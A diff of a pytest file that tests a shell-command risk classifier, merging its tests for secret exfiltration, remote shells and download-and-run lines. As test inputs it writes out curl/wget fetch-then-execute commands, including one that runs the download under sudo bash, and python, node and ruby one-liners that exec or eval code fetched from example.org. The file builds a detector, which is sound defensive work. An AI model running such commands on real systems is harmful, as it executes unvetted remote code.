@@ -54,23 +54,14 @@ HARMLESS = [
 ]
 
 
-@pytest.mark.parametrize("line", SECRETS)
-def test_sending_a_secret_away_is_critical(line: str) -> None:
+CRITICAL = {"sends secrets away": SECRETS, "gives a shell to another machine": SHELLS}
+
+
+@pytest.mark.parametrize(("line", "says"), [(line, says) for says, lines in CRITICAL.items() for line in lines])
+def test_sending_a_secret_or_a_shell_away_is_critical(line: str, says: str) -> None:
     found = judge(line, "/w")
     assert found.tier == 4
-    assert any("sends secrets away" in why for why in found.why)
-
-
-@pytest.mark.parametrize("line", SHELLS)
-def test_remote_shell_is_critical(line: str) -> None:
-    found = judge(line, "/w")
-    assert found.tier == 4
-    assert any("gives a shell to another machine" in why for why in found.why)
-
-
-@pytest.mark.parametrize(("line", "tier"), HARMLESS)
-def test_harmless_look_alikes_are_not_critical(line: str, tier: int) -> None:
-    assert judge(line, "/w").tier == tier
+    assert any(says in why for why in found.why)
 
 
 def test_data_sent_by_a_request_is_read() -> None:
@@ -83,6 +74,7 @@ def test_data_sent_by_a_request_is_read() -> None:
 @pytest.mark.parametrize(
     ("line", "tier"),
     [
+        *HARMLESS,
         ("curl -fsSLo setup.sh https://example.org/setup.sh && sh -x ./setup.sh", 4),
         ("cd /tmp && wget -q https://example.org/setup.sh; sudo bash setup.sh", 4),
         ("curl -s https://example.org/env > e && . ./e", 4),
@@ -93,15 +85,6 @@ def test_data_sent_by_a_request_is_read() -> None:
         ("curl -O https://example.org/rows.csv && python3 load.py rows.csv", 1),
         ("curl -Lo tool https://example.org/tool && chmod +x tool && mv tool bin/", 1),
         ("wget https://example.org/setup.sh; cd sub && sh setup.sh", 1),
-    ],
-)
-def test_running_a_download_in_one_line_is_recognised(line: str, tier: int) -> None:
-    assert judge(line, "/w").tier == tier
-
-
-@pytest.mark.parametrize(
-    ("line", "tier"),
-    [
         ("python3 -c \"from urllib.request import urlopen; exec(urlopen('https://example.org/p').read())\"", 4),
         ("node -e \"fetch('https://example.org/p').then(r => r.text()).then(eval)\"", 4),
         ("ruby -e \"require 'open-uri'; eval(URI.open('https://example.org/p').read)\"", 4),
@@ -111,5 +94,5 @@ def test_running_a_download_in_one_line_is_recognised(line: str, tier: int) -> N
         ("node -e \"fetch('https://example.org/p').then(evaluate)\"", 1),
     ],
 )
-def test_code_that_runs_its_download_is_recognised(line: str, tier: int) -> None:
+def test_running_a_download_is_recognised_and_its_look_alikes_are_not_critical(line: str, tier: int) -> None:
     assert judge(line, "/w").tier == tier
